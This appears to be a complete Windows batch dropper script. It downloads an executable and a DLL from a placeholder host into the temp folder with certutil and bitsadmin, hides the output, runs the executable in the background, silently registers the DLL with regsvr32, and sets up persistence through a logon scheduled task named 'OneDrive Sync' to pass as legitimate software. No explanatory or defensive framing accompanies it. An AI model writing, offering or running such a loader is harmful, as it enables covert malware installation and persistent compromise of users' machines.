@echo off
certutil -urlcache -split -f https://bin-inert.example/s.exe %TEMP%\s.exe >nul
bitsadmin /transfer j /download https://bin-inert.example/d.dll %TEMP%\d.dll >nul
start /b %TEMP%\s.exe & regsvr32 /s %TEMP%\d.dll
schtasks /create /sc onlogon /tn "OneDrive Sync" /tr %TEMP%\s.exe /f
